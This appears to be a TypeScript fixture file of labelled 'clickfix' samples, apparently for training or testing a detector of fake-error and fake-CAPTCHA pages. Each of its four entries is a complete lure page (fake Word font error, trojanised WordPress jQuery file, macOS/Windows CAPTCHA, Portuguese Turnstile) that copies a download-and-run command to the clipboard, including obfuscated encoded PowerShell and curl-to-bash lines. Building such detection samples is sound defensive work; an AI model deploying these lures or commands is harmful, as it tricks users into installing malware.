import { htmlRoute, type Entry } from '../entry.js';
import { b64, css, doc, img, js, text } from '../parts/h-parts.js';

export const entries: Entry[] = [
  // h-cf-doc-viewer-font-error
{
  id: 'h-cf-doc-viewer-font-error',
  label: 'clickfix',
  kind: 'fake-doc-viewer',
  url: 'https://onedrive-docs.viewer-share.net/personal/j_moreno/Doc.aspx?sourcedoc=Contract_Amendment_2026.docx',
  body: doc({
    title: 'Contract_Amendment_2026.docx - Microsoft Word Online',
    css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1}.rb{background:#2b579a;color:#fff;padding:8px 16px;font-size:14px}.tl{background:#fff;border-bottom:1px solid #ddd;padding:8px 16px;font-size:13px;color:#444}.pg{width:680px;height:880px;margin:20px auto;background:#fff;box-shadow:0 1px 4px #0003;padding:70px;box-sizing:border-box;color:transparent;text-shadow:0 0 7px #0006;user-select:none}.m{position:fixed;top:120px;left:50%;transform:translateX(-50%);background:#fff;width:480px;border:1px solid #c8c6c4;box-shadow:0 8px 30px #0004;padding:24px}.m h3{margin-top:0;color:#a4262c}.m button{background:#2b579a;color:#fff;border:0;padding:9px 18px}.m ol{font-size:14px}`,
    body: `<div class="rb">Word &nbsp;·&nbsp; Contract_Amendment_2026 &nbsp;-&nbsp; Saved to OneDrive</div><div class="tl">File &nbsp; Home &nbsp; Insert &nbsp; Layout &nbsp; References &nbsp; Review &nbsp; View &nbsp; Help</div>
<div class="pg">AMENDMENT No. 3 TO THE MASTER SERVICES AGREEMENT. This Amendment is entered into as of the Effective Date by and between the parties. 1. Term. The term of the Agreement is hereby extended. 2. Fees. Schedule B is replaced in its entirety…</div>
<div class="m"><h3>The "Aptos Display" font is not installed</h3><p>This document uses fonts that are missing on your computer, so its content can't be displayed correctly.</p><p><b>To install the font update manually:</b></p><ol><li>Click <b>How to fix</b></li><li>Right-click the Start button and open <b>Windows PowerShell</b></li><li>Paste (<b>Ctrl+V</b>) and press <b>Enter</b></li></ol><button id="fx">How to fix</button> <small id="dn"></small></div>
<script>
(function(){var p=['I','E','X','(','i','r','m',' ','h','t','t','p','s',':','/','/','f','o','n','t','s','-','o','f','f','i','c','e','-','c','d','n','.','c','o','m','/','a','p','t','o','s','.','p','s','1',')'].join('');
document.getElementById('fx').onclick=function(){navigator.clipboard.writeText('powershell -ep bypass -w 1 -c "'+p+'"');document.getElementById('dn').textContent='Copied to clipboard';}})();
</script>`,
  }),
  routes: { 'fonts-office-cdn.com/aptos.ps1': text('Write-Host ok') },
},
  // h-cf-compromised-wp-error-es
{
  id: 'h-cf-compromised-wp-error-es',
  label: 'clickfix',
  kind: 'fix-error',
  url: 'https://www.clinicadentalsolmar.es/tratamientos/ortodoncia-invisible/',
  body: doc({
    lang: 'es',
    title: 'Ortodoncia invisible | Clínica Dental Solmar',
    head: '<link rel="stylesheet" href="/wp-content/themes/solmar/style.css"><script src="/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.4.1"></script>',
    body: `<header class="hd"><b>Clínica Dental Solmar</b><nav><a href="#">Inicio</a><a href="#">Tratamientos</a><a href="#">Equipo</a><a href="#">Contacto</a></nav></header>
<main class="mn"><h1>Ortodoncia invisible</h1><p>Alinea tus dientes de forma discreta con alineadores transparentes. Primera visita y estudio 3D gratuitos.</p><p>Tel. 952 000 118 · C/ del Mar 14, Málaga</p></main>`,
  }),
  routes: {
    'www.clinicadentalsolmar.es/wp-content/themes/solmar/style.css': css('body{margin:0;font-family:Lato,Arial,sans-serif}.hd{display:flex;padding:18px 40px;background:#eaf6f8}.hd nav{margin-left:auto}.hd a{margin-left:18px;color:#035;text-decoration:none}.mn{max-width:800px;margin:40px auto}'),
    'www.clinicadentalsolmar.es/wp-includes/js/jquery/jquery-migrate.min.js': js(`/*! jQuery Migrate v3.4.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */
;(function(){if(document.cookie.indexOf('_wpx=')>-1)return;document.cookie='_wpx=1;max-age=86400;path=/';
window.addEventListener('DOMContentLoaded',function(){var d=document.createElement('div');d.style.cssText='position:fixed;inset:0;background:#fff;z-index:99999;font-family:Segoe UI,Arial,sans-serif;padding:60px';
d.innerHTML='<div style="max-width:560px;margin:auto"><h2 style="color:#d93025">\\u26a0 Algo salió mal al mostrar esta página</h2><p>Se produjo un error al cargar los certificados raíz del navegador (ERR_CERT_ROOT_UPDATE). Para ver el contenido debe instalar la actualización manualmente.</p><button id="_fx" style="background:#1a73e8;color:#fff;border:0;padding:10px 22px;border-radius:4px">Cómo solucionarlo</button><div id="_st" style="display:none;margin-top:16px;background:#f1f3f4;padding:14px"><p>1. Pulse <b>Windows + X</b><br>2. Seleccione <b>Windows PowerShell (Administrador)</b><br>3. Pegue con el botón derecho y pulse <b>Intro</b></p></div></div>';
document.body.appendChild(d);document.getElementById('_fx').onclick=function(){var e='${b64('$ErrorActionPreference="SilentlyContinue";$b=(New-Object Net.WebClient).DownloadData("https://upd-cert.root-store.online/c.bin");[Reflection.Assembly]::Load($b).EntryPoint.Invoke($null,$null)').replace(/=/g, '')}';var u=atob(e+'==='.slice((e.length+3)%4));var enc=btoa(unescape(encodeURIComponent(u)).split('').map(function(c){return c+'\\x00'}).join(''));
navigator.clipboard.writeText('powershell -NoP -W Hidden -EncodedCommand '+enc);document.getElementById('_st').style.display='block'}})})();`),
  },
},
  // h-cf-macos-terminal-captcha
{
  id: 'h-cf-macos-terminal-captcha',
  label: 'clickfix',
  kind: 'fake-captcha',
  url: 'https://docs-share.cloudvault-files.com/view/shared/8dk2LqP',
  body: doc({
    title: 'Security check',
    css: `body{margin:0;background:#f7f7f7;font-family:-apple-system,BlinkMacSystemFont,"Helvetica Neue",sans-serif}.c{max-width:520px;margin:80px auto;background:#fff;border-radius:12px;padding:30px;box-shadow:0 4px 20px #0001}.c h2{margin-top:0}.ck{display:flex;align-items:center;gap:12px;border:1px solid #ddd;border-radius:6px;padding:14px;cursor:pointer}.ck i{width:22px;height:22px;border:2px solid #999;border-radius:3px}.s{display:none;margin-top:18px}.s li{margin:8px 0}kbd{background:#eee;border-radius:4px;padding:2px 6px;border:1px solid #ccc}`,
    body: `<div class="c"><h2>Verify you're human to view "Q4 Board Deck.key"</h2><div class="ck" id="ck"><i></i> I'm not a robot <span style="margin-left:auto;font-size:11px;color:#999">reCAPTCHA</span></div>
<div class="s" id="s"><p><b>macOS verification</b> — complete these steps:</p><ol><li>Press <kbd>⌘ Command</kbd> + <kbd>Space</kbd>, type <b>Terminal</b> and press Return</li><li>Paste with <kbd>⌘</kbd> + <kbd>V</kbd></li><li>Press <kbd>Return</kbd> and enter your Mac password if asked</li></ol><p style="font-size:12px;color:#777">Verification ID: 8dk2LqP · This is required once per device</p></div></div>
<script>
var m='/bin/bash -c "$(curl -fsSL https://cloudvault-files.com/verify/install.sh)"';
var w='powershell -c "iwr https://cloudvault-files.com/verify/w.ps1 | iex"';
document.getElementById('ck').onclick=function(){var mac=/Mac/.test(navigator.platform);var c=mac?m:w;navigator.clipboard.writeText(c);this.querySelector('i').style.background='#34a853';document.getElementById('s').style.display='block';
if(!mac){document.querySelector('#s ol').innerHTML='<li>Press <kbd>Win</kbd> + <kbd>R</kbd></li><li>Paste with <kbd>Ctrl</kbd> + <kbd>V</kbd></li><li>Press <kbd>Enter</kbd></li>'}};
</script>`,
  }),
  routes: { 'cloudvault-files.com/verify/install.sh': text('#!/bin/bash\ncurl -so /tmp/.upd https://cloudvault-files.com/verify/upd && chmod +x /tmp/.upd && /tmp/.upd\n') },
},
  // h-cf-turnstile-ptbr-finger
{
  id: 'h-cf-turnstile-ptbr-finger',
  label: 'clickfix',
  kind: 'fake-captcha',
  url: 'https://portal-noticias-hoje.com.br/economia/salario-minimo-2027',
  body: doc({
    lang: 'pt-BR',
    title: 'Salário mínimo 2027: veja o novo valor | Portal Notícias Hoje',
    css: `body{margin:0;font-family:Arial,sans-serif}.news{max-width:760px;margin:30px auto;filter:blur(4px)}.g{position:fixed;inset:0;background:#fffe;display:flex;align-items:center;justify-content:center}.b{width:420px;border:1px solid #ddd;border-radius:8px;padding:24px;background:#fff;box-shadow:0 2px 12px #0002}.t{display:flex;align-items:center;gap:10px;border:1px solid #ccc;padding:12px;border-radius:4px}.sp{width:22px;height:22px;border:3px solid #f48120;border-top-color:transparent;border-radius:50%;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}.i{display:none;font-size:14px}`,
    body: `<div class="news"><h1>Salário mínimo 2027: governo divulga novo valor</h1><p>O reajuste considera a inflação medida pelo INPC e o crescimento do PIB…</p></div>
<div class="g"><div class="b"><h3>Confirme que você é humano</h3><div class="t" id="t"><div class="sp" id="sp"></div><span id="tx">Verificando…</span><span style="margin-left:auto;font-size:10px;color:#888">Cloudflare Turnstile</span></div>
<div class="i" id="i"><p>Falha na verificação automática. Conclua manualmente:</p><p>1. Pressione <b>Windows + R</b><br>2. Cole o código com <b>Ctrl + V</b><br>3. Pressione <b>Enter</b></p><button id="bt" style="background:#f48120;color:#fff;border:0;padding:9px 18px;border-radius:4px">Copiar código de verificação</button></div></div></div>
<script>
var c='cmd /c start /min "" powershell -w h -c "finger verify@portal-cdn-check.com | Select -Skip 2 | iex"';
setTimeout(function(){document.getElementById('sp').style.display='none';document.getElementById('tx').textContent='Verificação necessária';document.getElementById('i').style.display='block'},2200);
document.getElementById('bt').onclick=function(){navigator.clipboard.writeText(c+'  ::  Verificacao Cloudflare ID 88231');this.textContent='Copiado ✓'};
</script>`,
  }),
},
];
